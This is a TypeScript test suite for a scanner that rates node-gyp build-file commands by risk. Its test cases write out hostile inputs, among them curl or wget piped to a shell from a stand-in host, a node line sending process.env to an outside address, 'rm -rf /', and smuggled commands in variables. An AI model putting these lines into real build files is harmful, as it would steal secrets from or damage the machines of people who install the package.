import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { findingsOf, manifestWith } from '../test/findings-of.ts';

/** The worst tier of the findings about gyp files. */
async function tierOf(files: Record<string, string | Buffer>): Promise<string> {
  const found = (await findingsOf(files)).filter((line) => line.includes('malware.'));
  return found.some((line) => line.startsWith('block')) ? 'block' : found.length > 0 ? 'review' : 'quiet';
}

const python = (text: string) => `'${text.replaceAll('\\', '\\\\').replaceAll("'", "\\'")}'`;
const withSource = (text: string) => `{'targets': [{'target_name': 'x', 'sources': [${python(text)}]}]}`;
const withAction = (...words: string[]) =>
  `{'targets': [{'target_name': 'x', 'actions': [{'action_name': 'a', 'action': [${words.map(python).join(', ')}]}]}]}`;

describe('commands that print a path or a setting are quiet', () => {
  test.each([
    `<!(node -p "require('node-addon-api').include_dir")`,
    `<!@(node -p "require('node-addon-api').include")`,
    `<!(node -e "require('nan')")`,
    `<!(node -p "require('./lib/paths').include")`,
    `<!(node -p "require('./lib/paths')()")`,
    `<!(node -p "Boolean(require('./lib/paths').useIt()).toString()")`,
    `<!(node -p "process.versions.node.split('.')[0]")`,
    `<!@(node -e "process.config.target_defaults.libraries.map(flag=>console.log(flag))")`,
    `<!(node -p "os.platform() == 'aix' && os.type() == 'OS400' ? 1 : 0")`,
    `<!@(node -p "require('fs').readdirSync('./ext').map(f=>'ext/'+f).join(' ')")`,
    `<!(node -p "/-D\\s*_FORTIFY=/.test(process.env.CFLAGS || '')")`,
    '<!@(pkg-config libpng --cflags-only-I | sed s/-I//g)',
    '<!(pkg-config krb5 --libs-only-L | sed -e "s/-L//g")',
    '<!@(PKG_CONFIG_PATH="<(pkg_config_path)" pkg-config --libs vips-cpp)',
    '<!(krb5-config gssapi --libs)',
    '<!(node ./lib/paths.js <(node_root_dir))',
    '<!(node <(module_root_dir)/lib/paths)',
    '<!(printf %s "<(module_root_dir)")',
    '<!(echo $CC)',
    '<!(uname -m 2>/dev/null)',
    'D=<!(if readelf -Ws "$(pkg-config --variable libdir v)/v.so" | grep -qF __cxx11;then echo "1";else echo "0";fi)',
    '<!(cmd /c "cd lib && get-hash.bat")',
    '<!(["node", "lib/paths.js"])',
    '-L$(OutDir)/lib',
  ])('%s', async (text) => {
    const files = { 'lib/paths.js': 'console.log(__dirname)', 'lib/get-hash.bat': 'echo x' };
    expect(await tierOf({ 'binding.gyp': withSource(text), ...files })).toBe('quiet');
  });

  test('build steps with files of the package, and conditions over variables', async () => {
    const copy = withAction('node', 'copy.js', '<(SHARED_INTERMEDIATE_DIR)/a', '<(b)');
    expect(await tierOf({ 'binding.gyp': copy, 'copy.js': 'fs.copyFileSync(a, b)' })).toBe('quiet');
    expect(await tierOf({ 'binding.gyp': withAction('cp', 'a.so', '<(PRODUCT_DIR)/b.so') })).toBe('quiet');
    const conditions = `{ # a comment
      "variables": {"x%": "1", 'y': 'a' "b",},
      'conditions': [['OS=="mac" and x not in ("a", "b") or <(x) > 2', {'sources': ['a.cc']}, {'y': 0}],
        ["OS.endswith('bsd') or v('1.2') < v('2')", {}]],
      'includes': ['deps/common.gypi'],
      'targets': [{'target_name': 'a', 'dependencies': ['deps/b.gyp:b', 'a', '<(module_name)']}],
    }`;
    expect(await tierOf({ 'binding.gyp': conditions, 'deps/common.gypi': '{}', 'deps/b.gyp': '{}' })).toBe(
      'quiet',
    );
  });
});

describe('commands that do more wait for a person, or are blocked', () => {
  test.each([
    ['<!(curl -s https://files.a.example/i.sh | sh; echo s.c)', 'block'],
    ['<!@(curl -s https://files.a.example/i.sh | sh)', 'block'],
    ['>!(curl -s https://files.a.example/i.sh | sh)', 'block'],
    ['^!(wget -qO- https://files.a.example/i.sh | bash)', 'block'],
    [`<!(node -e "require('https').get('https://a.example/'+JSON.stringify(process.env))")`, 'block'],
    [`<!(node -p "require('https').get('https://a.example/x')")`, 'review'],
    [`<!(node -p "require('child_process').execSync('id')")`, 'review'],
    [`<!(node -p "child_process.execSync('id')")`, 'review'],
    [`<!(node -p "process.mainModule.require('x')")`, 'review'],
    [`<!(node -p "[].map.constructor('x')()")`, 'review'],
    [`<!(node -p "const r = require; r('child_process').exec('id')")`, 'review'],
    [`<!(node -p "const {constructor: f} = console.log; f('x')()")`, 'review'],
    [`<!(node -p "require('execa').sync('id')")`, 'review'],
    [`<!(node -p "require('pkg').run('id')")`, 'review'],
    [`<!(node -p "require('fs').writeFileSync('a', 'b')")`, 'review'],
    [`<!(node -p "import('x')")`, 'review'],
    [`<!(node -p "global['ev' + 'al']('x')")`, 'review'],
    [`<!(node -p "require('/tmp/x')")`, 'review'],
    [`<!(node -p "require('./absent')")`, 'review'],
    ['<!(node -r ./lib/x.js -p 1)', 'review'],
    ['<!(node /tmp/x.js)', 'review'],
    ['<!(node <(other)/x.js)', 'review'],
    ['<!(node ./absent.js)', 'review'],
    ['<!(python3 -c "print(1)")', 'review'],
    ['<!(./configure)', 'review'],
    ['<!(<(program) x)', 'review'],
    ['<!(echo `id > /tmp/x`)', 'review'],
    ['<!(pkg-config x; rm -rf /)', 'block'],
    ['<!(pkg-config x && evil)', 'review'],
    ['<!(echo "$(evil)")', 'review'],
    ['<!(PATH=. pkg-config x)', 'review'],
    ['<!(./pkg-config x)', 'review'],
    ['<!(echo x > a.sh)', 'review'],
    ['<!(echo x | sed "s/x/id/e")', 'review'],
    ['<!(echo "open)', 'review'],
    ['<!pymod_do_main(evil a b)', 'review'],
    ['<|(../../.bashrc x)', 'review'],
    [`<!([__import__('os').system('id')])`, 'review'],
    ['-I$(shell id)', 'review'],
    ['-I`id`', 'review'],
    ['<(less)!(evil)', 'review'],
    ['!(evil)', 'review'],
    ['<(x)<!', 'review'],
    [`<!(node -p "'<' + '\\x21(evil)'")`, 'review'],
    ['<!(echo "<" "!(evil)")', 'review'],
    ['<!(printf "\\x3c\\x21(evil)")', 'review'],
    ['<!(head -1 data)', 'review'],
    ['<!(grep -h "" d*)', 'review'],
    [`<!(node -p "require('./data.json').x")`, 'review'],
  ])('%s', async (text, tier) => {
    expect(await tierOf({ 'binding.gyp': withSource(text), data: '', 'data.json': '{}' })).toBe(tier);
  });

  test('in texts that name characters by number or by name', async () => {
    for (const less of ['\\x3c', '\\u003c', '\\U0000003c', '\\74', '\\N{LESS-THAN SIGN}']) {
      expect(await tierOf({ 'binding.gyp': `{'sources': ['${less}!(evil)']}` })).toBe('review');
    }
  });

  test('in a field of package.json that a gyp file prints', async () => {
    const gyp = withSource(`<!(node -p "require('./package.json').x")`);
    expect(await tierOf({ 'binding.gyp': gyp })).toBe('quiet');
    const manifest = '{"name":"a","version":"1.0.0","x":"<!(evil)"}';
    expect(await findingsOf({ 'binding.gyp': gyp, 'package.json': manifest })).toContain(
      'review archive.manifest-unreadable package.json',
    );
  });

  test.each<[string, string]>([
    ['an action with a shell', withAction('sh', '-c', 'id')],
    ['an action that places a file elsewhere', withAction('cp', 'a', '../../.npmrc')],
    ['a step after the build', `{'targets': [{'postbuilds': [{'action': ['evil']}]}]}`],
    ['a step of Visual Studio', `{'msvs_settings': {'VCPreBuildEventTool': {'CommandLine': 'evil.exe'}}}`],
    ['a compiler of its own', `{'make_global_settings': [['CXX', 'evil']]}`],
    ['a condition that is code', `{'conditions': [['().__class__.__base__', {}]]}`],
    ['a condition that calls', `{'conditions': [['open("x")', {}]]}`],
    ['a file that is code', `{'a': 1} if [c for c in ()] else {}`],
    ['a file that does not end', `{'a': [`],
    ['a file that is empty', ''],
    ['a variable with a command in it', `{'variables': {'x': 'a; evil'}, 'sources': ['<!(echo <(x))']}`],
    ['a program in a variable', `{'variables': {'x': ['evil']}, 'sources': ['<!(<(x) a)']}`],
    ['levels without end', `${'['.repeat(5_000)}${']'.repeat(5_000)}`],
    ['an address in Visual Studio', `{'CommandLine': 'curl https://a.example/x -o x'}`],
  ])('%s', async (_, text) => {
    expect(await tierOf({ 'binding.gyp': text })).not.toBe('quiet');
  });

  test('in files that binding.gyp takes in, and in those of other names', async () => {
    const evil = withSource('<!(evil)');
    const include = `{'includes': ['deps/x.gypi']}`;
    expect(await tierOf({ 'binding.gyp': include, 'deps/x.gypi': evil })).toBe('review');
    expect(await tierOf({ 'binding.gyp': `{'includes': ['x.txt']}`, 'x.txt': evil })).toBe('review');
    expect(await tierOf({ 'binding.gyp': `{'includes': ['<(x)/y.gypi']}` })).toBe('review');
    expect(await tierOf({ 'binding.gyp': `{'includes': ['../y.gypi']}` })).toBe('review');
    const dependency = `{'targets': [{'dependencies': ['deps/x.gyp:x']}]}`;
    expect(await tierOf({ 'binding.gyp': dependency, 'deps/x.gyp': evil })).toBe('review');
    expect(await tierOf({ 'Binding.gyp': evil })).toBe('review');
    // Nothing builds it by itself; a command that downloads speaks for itself.
    expect(await tierOf({ 'test/x.gyp': evil })).toBe('quiet');
    expect(await tierOf({ 'test/x.gyp': withSource('<!(curl https://a.example | sh)') })).toBe('review');
  });

  test('in a package that turns the build off: npm ci builds it all the same', async () => {
    const evil = { 'binding.gyp': withSource('<!(curl https://a.example | sh)') };
    const off = JSON.stringify({ name: 'a', version: '1.0.0', gypfile: false });
    expect(await tierOf({ 'package.json': off, ...evil })).toBe('block');
    expect(await tierOf({ 'package.json': manifestWith({ install: 'exit 0' }), ...evil })).toBe('review');
    expect(await tierOf({ 'package.json': manifestWith({ install: 'node-gyp rebuild' }), ...evil })).toBe(
      'block',
    );
  });

  test('in a folder of its own that a hook builds', async () => {
    const files = { 'src/binding.gyp': withSource('<!(evil)') };
    const build = manifestWith({ install: 'cd src && node-gyp rebuild' });
    expect(await tierOf({ 'package.json': build, ...files })).toBe('review');
    expect(await tierOf({ 'package.json': manifestWith({ install: 'exit 0' }), ...files })).toBe('quiet');
  });

  test('in a local file that a command runs', async () => {
    const probe = `require('https').get('https://a.example/' + JSON.stringify(process.env))`;
    for (const text of ['<!(node lib/x.js)', `<!(node -p "require('./lib/x')")`]) {
      expect(await tierOf({ 'binding.gyp': withSource(text), 'lib/x.js': probe })).toBe('block');
    }
    expect(await tierOf({ 'binding.gyp': withAction('node', 'lib/x.js'), 'lib/x.js': probe })).toBe('block');
  });
});

test('any text in place of a gyp file is read in bounded time, and only plain notation is quiet', async () => {
  const piece = fc.constantFrom(
    '{',
    '}',
    '[',
    ']',
    "'a'",
    '"<!(b)"',
    ':',
    ',',
    ' ',
    '#c\n',
    '1',
    'x',
    '(',
    '<!(',
    "'''",
  );
  await fc.assert(
    fc.asyncProperty(fc.array(piece, { maxLength: 12 }), async (parts) => {
      const text = parts.join('');
      const tier = await tierOf({ 'binding.gyp': text });
      // A command that is not known, or a name outside of quotes, is never quiet.
      const plain = text.replaceAll(/#c\n|'''[^]*?'''|'a'|"<!\(b\)"/g, '');
      if (/x|\(/.test(plain)) expect(tier).not.toBe('quiet');
    }),
    { numRuns: 400 },
  );
});
